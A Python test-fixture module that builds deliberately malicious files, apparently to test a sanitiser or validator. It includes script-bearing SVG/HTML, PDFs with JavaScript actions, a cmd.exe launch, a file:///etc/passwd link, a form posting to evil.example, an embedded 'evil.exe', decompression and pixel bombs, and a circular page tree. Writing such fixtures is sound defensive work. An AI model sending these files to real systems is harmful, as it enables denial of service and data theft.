"""Makers of files that nobody should send: each returns the bytes of one."""

import io
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from reportlab.pdfgen.canvas import Canvas

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!DOCTYPE html><title>x</title><script>alert(1)</script>"


def pdf(pages: int = 1, *, text: str = "Page", size: tuple[float, float] = (595, 842)) -> bytes:
    """Return a plain PDF with the page's number on each."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=size)
    for number in range(1, pages + 1):
        canvas.drawString(72, 72, f"{text} {number}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """Return a PDF that opens with a password alone."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def _action(kind: str, **parts: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in parts.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _annotation(kind: str, **parts: object) -> DictionaryObject:
    rect = ArrayObject([FloatObject(each) for each in (10, 10, 200, 60)])
    mark = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(kind),
            NameObject("/Rect"): rect,
        }
    )
    for key, value in parts.items():
        mark[NameObject(f"/{key}")] = value
    return mark


def acting_pdf() -> bytes:
    """Return a PDF that runs scripts, starts programs, carries a file, sends a form, and leads to good and bad."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf(text="Readable")))
    writer.add_attachment("evil.exe", b"MZ evil")
    script = _action("/JavaScript", JS="app.alert('document')")
    named = ArrayObject([TextStringObject("start"), writer._add_object(script)])
    tree = DictionaryObject({NameObject("/Names"): named})
    writer.root_object["/Names"][NameObject("/JavaScript")] = tree
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert('open')")
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="page()")})
    look = DecodedStreamObject()
    look.set_data(b"BT /F1 12 Tf 5 5 Td (filled in by hand) Tj ET")
    look[NameObject("/Type")], look[NameObject("/Subtype")] = NameObject("/XObject"), NameObject("/Form")
    look[NameObject("/BBox")] = ArrayObject([FloatObject(each) for each in (0, 0, 190, 50)])
    filled = _annotation(
        "/Widget",
        FT=NameObject("/Tx"),
        A=_action("/SubmitForm", F="https://evil.example/take"),
        AP=DictionaryObject({NameObject("/N"): writer._add_object(look)}),
    )
    marks = [
        _annotation("/Link", A=_action("/Launch", F="cmd.exe")),
        _annotation("/Link", A=_action("/URI", URI="javascript:alert(1)")),
        _annotation("/Link", A=_action("/URI", URI="file:///etc/passwd")),
        _annotation("/Link", A=_action("/URI", URI="https://good.example/study")),
        _annotation("/FileAttachment", FS=_action("/F", UF="evil.exe")),
        _annotation("/RichMedia", RichMediaContent=DictionaryObject()),
        _annotation("/Text", Contents=TextStringObject("a private remark of the author")),
        filled,
    ]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(each) for each in marks])
    fields = ArrayObject([page["/Annots"][-1]])
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})
    writer.add_annotation(0, FreeText(text="a remark for all", rect=(50, 550, 200, 650)))
    writer.add_metadata({"/Author": "Somebody At Home", "/Title": "secret title"})
    return _written(writer)


def bomb_pdf(megabytes: int = 200) -> bytes:
    """Return a small PDF whose page unpacks to very much."""
    packer = zlib.compressobj(9)
    zeros = b" " * 1024 * 1024
    packed = b"".join(packer.compress(zeros) for _each in range(megabytes)) + packer.flush()
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    stream = StreamObject()
    stream._data = packed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
    return _written(writer)


def huge_picture_pdf() -> bytes:
    """Return a PDF with a picture of 100,000 by 100,000 pixels in a few bytes."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    picture = StreamObject()
    picture._data = b"\x00"
    for key, value in (("/Width", 100_000), ("/Height", 100_000), ("/BitsPerComponent", 1)):
        picture[NameObject(key)] = NumberObject(value)
    picture[NameObject("/Type")], picture[NameObject("/Subtype")] = (
        NameObject("/XObject"),
        NameObject("/Image"),
    )
    picture[NameObject("/ColorSpace")] = NameObject("/DeviceGray")
    resources = writer.pages[0]["/Resources"]
    resources[NameObject("/XObject")] = DictionaryObject({NameObject("/P"): writer._add_object(picture)})
    return _written(writer)


def outside_pdf() -> bytes:
    """Return a PDF whose page is fetched from elsewhere."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    stream = StreamObject()
    stream._data = b""
    stream[NameObject("/F")] = TextStringObject("https://evil.example/page")
    resources = writer.pages[0]["/Resources"]
    stream[NameObject("/Subtype")] = NameObject("/Form")
    resources[NameObject("/XObject")] = DictionaryObject({NameObject("/P"): writer._add_object(stream)})
    return _written(writer)


def circular_pdf() -> bytes:
    """Return a PDF whose tree of pages bites its own tail."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    tree = writer.root_object["/Pages"]
    tree["/Kids"].append(writer.root_object.raw_get("/Pages"))
    return _written(writer)


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40)) -> bytes:
    """Return a picture with the place where it was taken and a tail that is no picture."""
    drawn = Image.new("RGB", size, "green")
    exif = drawn.getexif()
    exif[0x010E] = "taken at home"
    exif[0x0112] = 6  # it lies on its side
    out = io.BytesIO()
    drawn.save(out, form, exif=exif)
    return out.getvalue() + b"<script>alert(1)</script>"


def bomb_picture() -> bytes:
    """Return a PNG of a few kilobytes with 100 million pixels."""
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    return out.getvalue()


def read_back(data: bytes) -> PdfReader:
    """Open a PDF."""
    return PdfReader(io.BytesIO(data))
